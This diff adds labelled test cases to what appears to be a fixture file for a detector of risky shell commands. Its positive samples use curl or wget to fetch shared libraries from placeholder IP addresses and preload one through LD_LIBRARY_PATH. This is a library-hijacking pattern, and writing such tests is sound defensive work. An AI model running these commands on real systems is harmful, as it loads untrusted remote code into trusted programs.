@@ -60,3 +60,13 @@ export AWKLIBPATH=/tmp/.awk
 gawk -l ordchr 'BEGIN { print chr(65) }'
 #@ neg gawk @load of its time extension
 gawk '@load "time"; BEGIN { print gettimeofday() }'
+#@ pos a library downloaded under a soname, then found through LD_LIBRARY_PATH
+d=$(mktemp -d)
+curl -fsSL -o "$d/libz.so.1" http://203.0.113.17/libz.so.1
+LD_LIBRARY_PATH=$d curl --version
+#@ pos wget saves a library under its URL's name
+wget -q -P "$lib" http://198.51.100.140/pkg/libcrypto.so.3
+#@ pos a download redirected into a .so file
+curl -fsS http://203.0.113.230/m >~/.cache/libnss_files.so.2
+#@ neg a site on the .so domain
+curl -fsS https://api.notion.so/v1/users/me -H "Authorization: Bearer $NOTION_TOKEN"
